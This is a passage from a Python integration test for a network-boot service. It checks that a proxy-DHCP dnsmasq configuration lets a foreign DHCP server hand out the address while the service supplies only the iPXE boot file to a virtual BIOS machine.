    options, naming its own address so iPXE takes them."""
    site = proxy_site
    foreign = site.foreign
    assert foreign is not None
    config = site.config_text
    boot_url = f"{site.base_url}/boot.ipxe"
    lines = [ln.strip() for ln in config.splitlines()]
    assert f"dhcp-boot=tag:ipxe,{boot_url},,{site.net.address}" in lines, config
    ranges = [ln for ln in lines if ln.startswith("dhcp-range=")]
    assert ranges and all(",proxy" in r for r in ranges), ranges  # no addresses of ours
    assert any(ln.startswith("pxe-service=") for ln in lines), config

    mac = lab.random_mac()
    uuid = "4c4c4544-0042-3610-8052-b4c04f4e0005"
    address, hostname = "10.213.0.60", "node-proxy"
    smbios = smbios_for("PROXY", uuid)
    machine = site.add_machine(
        hostname=hostname, uuid=uuid, serial=smbios.serial, manufacturer=MANUFACTURER,
        product=PRODUCT, nics=[{"mac": mac, "boot": True}], address=address,
    )  # fmt: skip
    mid = machine["id"]
    site.api("PUT", f"/machines/{mid}/next-boot", {"profile": LINUX_PROFILE})
    assert_preview_is_action(site, mid, address, hostname, lab.Mode.BIOS)

    guest = lab.Guest(site.net, mode=lab.Mode.BIOS, nics=[lab.Nic(mac=mac)], smbios=smbios,
                      name="proxy")  # fmt: skip
    result = boot_guest(site, guest)
    boots = site.wait_events("the proxied boot event", kind="boot", machine_id=mid)
    leased = boots[-1]["ip"]
    assert FOREIGN_RANGE[0] <= leased <= FOREIGN_RANGE[1], boots  # same-length octets
    assert_booted_action(
        site,
        machine=machine,
        mac=mac,
        mode=lab.Mode.BIOS,
        smbios=smbios,
        result=result,
        address=address,
        hostname=hostname,
        dhcp_address=leased,
    )
    foreign_log = foreign.log_text()
    assert re.search(rf"DHCPACK\(eth0\) {re.escape(leased)} {mac}", foreign_log), foreign_log
    ours = site.dnsmasq_log()
    assert re.search(rf"PXE\({BRIDGE}\) {mac} proxy", ours), ours
    assert f"bootfile name: {boot_url}" in ours and f"next server: {site.net.address}" in ours
    assert not re.search(rf"DHCPACK\({BRIDGE}\) \S+ {mac}", ours), ours  # we gave no address
